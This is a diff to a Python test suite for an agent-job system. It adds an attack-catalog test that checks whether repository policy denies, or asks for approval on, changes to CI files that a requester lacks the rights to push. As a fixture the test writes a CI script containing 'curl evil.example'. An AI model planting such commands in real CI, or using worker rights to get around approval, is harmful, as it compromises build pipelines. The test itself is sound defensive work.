@@ -22,6 +22,7 @@ from draftsman.repos.repo_url import parse
 from draftsman.runtime import Runtime
 from draftsman.settings.policies import PolicySettings
 from draftsman_testing.factories import Factory
+from tests.attacks.catalog import attack
 from tests.core.worker.agent_jobs import agent_worker, git, make_repository, submit_agent_job
 from tests.core.worker.workers import wait_for_end, wait_for_question
 from tests.support.cases import cases
@@ -179,6 +180,37 @@ async def test_changes_that_cannot_be_applied_fail_the_job(
         job = await wait_for_end(rt, number)
     assert job.status is Status.FAILED
     assert str(job.last_error).startswith(problem)
+
+
+@attack(
+    "A requester who may not push changes CI of the repository with --with-changes",
+    surface="approval",
+    with_sandbox="the policy denies the changes, or asks before they are published",
+)
+async def test_the_policy_holds_for_the_changes(rt: Runtime, make: Factory, tmp_path: Path) -> None:
+    """They are pushed with the rights of the worker."""
+    numbers = []
+    for effect in ("deny", "ask"):
+        repo = make_repository(tmp_path / effect)
+        (repo / "ci").mkdir()
+        (repo / "ci" / "run.sh").write_text("curl evil.example\n")
+        policy = {"paths": [{"path": "ci/", "effect": effect}], "deny_files_over": 1}
+        await rt.repos.add(Repo.at(parse(str(repo))), profile({"policy": policy}), make.owner)
+        (repo / "other.txt").write_text("1\n")
+        numbers.append(await submit(make, repo))
+    denied, asked = numbers
+    code = 'open("a.txt", "a").write("three\\n")\nsay("result", summary="did it")'
+    async with agent_worker(rt, tmp_path / "data", code):
+        job = await wait_for_end(rt, denied)
+        assert (job.status, job.error_class) == (Status.FAILED, "PERMANENT")
+        assert str(job.last_error).startswith("the uncommitted changes have paths: ci/run.sh (ci/)")
+        await wait_for_question(rt, asked)
+        question = await rt.questions.get(asked, 1)
+        assert "ci/run.sh (ci/, in the uncommitted changes)" in question.text
+        assert git("branch", "--list", "draftsman/*", cwd=tmp_path / "ask") == ""
+        assert (await make.decide(asked, True, make.owner)).accepted
+        job = await wait_for_end(rt, asked)
+    assert job.status is Status.COMPLETED, job.last_error
 
 
 async def test_secrets_in_changes_are_refused_by_the_worker_too(
